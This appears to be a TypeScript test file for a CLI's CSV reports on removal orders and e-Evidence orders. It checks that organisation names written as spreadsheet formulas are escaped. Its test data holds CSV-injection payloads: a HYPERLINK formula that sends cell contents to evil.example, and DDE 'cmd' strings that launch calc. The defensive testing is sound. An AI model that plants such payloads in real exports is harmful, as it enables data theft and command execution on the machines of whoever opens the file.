// `liaison report --tco` and `--eevidence` as CSV, on both databases, when an organisation's name (and an e-Evidence
// addressee's name) is a spreadsheet formula: no cell of the output may start with =, +, -, @, a tab or a carriage
// return, and the formula text never reaches the file as a cell a spreadsheet would run.
import { parse } from "csv-parse/sync";
import { expect } from "vitest";
import { runReport } from "../../src/cli/report.js";
import { importDirectory } from "../../src/directory/import.js";
import { describeOnBothDatabases, type CaseHarness } from "../support/cases.js";
import { TEST_KEYS } from "../support/keys.js";
import { seedTcoAdvance } from "../support/tco.js";
import { withAuthorities } from "../eevidence/support.js";

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")';
/** Names that start with each character a spreadsheet takes for a formula. */
const HOSTILE_NAMES = [FORMULA, '+HYPERLINK("https://evil.example")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
const SUBSCRIBER = '--category subscriber --target "@subject" --issuer-file "OM 2026/17" --offence "fraud (oplichting)" --provision "Art. 326 Sr" --deliver-to "nl-om"';

/** A hosting provider whose name is `name`, with a removal-orders contact. */
function hostileProvider(name: string, index: number): string {
  return `
version: 1
organisations:
  - slug: formula-host-${index}
    name: ${JSON.stringify(name)}
    kind: hosting
    country: NL
    languages: [nl, en]
    timeZone: Europe/Amsterdam
    workingHours: mon-fri 09:00-17:00
    channels:
      - { platform: console, channel: formula-host-${index} }
    contacts:
      - handle: eve.formula${index}
        name: ${JSON.stringify(name)}
        email: eve@formula-host-${index}.example
        roles: { removal-orders: primary, notices: primary }
        orgAdmin: true
        lastVerifiedAt: 2026-10-01
`;
}

/** The CSV a report prints, as cells. */
async function csvCells(h: CaseHarness, flag: "--tco" | "--eevidence"): Promise<string[][]> {
  let out = "";
  let err = "";
  const code = await runReport(h.store, ["--from", "2026-11-01", "--to", "2026-12-01", flag, "--format", "csv"], (text) => (out += `${text}\n`), (text) => (err += `${text}\n`), TEST_KEYS);
  expect([code, err]).toEqual([0, ""]);
  return parse(out, { relax_column_count: true }) as string[][];
}

/** Every cell is safe in a spreadsheet; the cells that stand for the hostile name carry the apostrophe. */
function expectNoFormulaCells(cells: string[][], name: string): void {
  expect(cells.length).toBeGreaterThan(1);
  for (const row of cells) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  for (const row of cells) for (const cell of row) if (cell.includes(name.trim())) expect(cell.startsWith("'"), cell).toBe(true);
}

describeOnBothDatabases("report CSV and spreadsheet formulas in names", (harness, test) => {
  test("--tco: a provider (and its contact) named as a formula", async () => {
    const h = harness();
    for (const [index, name] of HOSTILE_NAMES.entries()) {
      const imported = await importDirectory(h.db, h.clock, TEST_KEYS, hostileProvider(name, index), "yaml", { actor: "system", via: "test" });
      expect(imported.ok, JSON.stringify(imported)).toBe(true);
      // A leading tab or carriage return is trimmed at the edge; what is left is still a formula, kept as text.
      const stored = await h.db.organisation.findFirstOrThrow({ where: { slug: `formula-host-${index}` } });
      expect(stored.name).toBe(name.trim());
      await seedTcoAdvance(h.db);
      h.clock.set(`2026-11-${String(10 + index).padStart(2, "0")}T10:00:00Z`);
      await h.ok("sanne.devries", `/notice formula-host-${index} https://example.test/v/${index} --kind removal-order --content-type incitement --redress "objection within 6 weeks" --reason "terrorist video"`);
      await h.drain();
      const provider = await h.db.organisation.findFirstOrThrow({ where: { slug: `formula-host-${index}` } });
      const reference = (await h.db.case.findFirstOrThrow({ where: { recipientOrgId: provider.id } })).reference;
      await h.ok(`eve.formula${index}`, `/case resolve ${reference} --outcome removed`);
      const cells = await csvCells(h, "--tco");
      expect(cells.some((row) => row.includes(`formula-host-${index}`))).toBe(true);
      expectNoFormulaCells(cells, name);
    }
  });

  test("--eevidence: an addressee whose directory name and e-Evidence name are formulas", async () => {
    const h = harness();
    await withAuthorities(h);
    for (const name of HOSTILE_NAMES) {
      await h.db.organisation.update({ where: { slug: "chirp-social" }, data: { name } });
      const named = await h.run("demo.coordinator", `/eevidence addressee chirp-social --type establishment --member-state DE --languages de,en --name "${name.replace(/"/g, '\\"')}"`);
      expect(named.failure, named.message.text).toBeUndefined();
    }
    h.clock.set("2026-11-20T09:00:00+01:00");
    await h.ok("mark.dejong", `/eevidence order chirp-social ${SUBSCRIBER}`);
    await h.drain();
    h.clock.set("2026-11-20T10:00:00+01:00");
    await h.ok("lena.schmidt", "/eevidence produced P-2026-0001");
    const cells = await csvCells(h, "--eevidence");
    expect(cells[1]?.slice(0, 3)).toEqual(["production", "subscriber", "chirp-social"]);
    for (const name of HOSTILE_NAMES) expectNoFormulaCells(cells, name);
  });
});
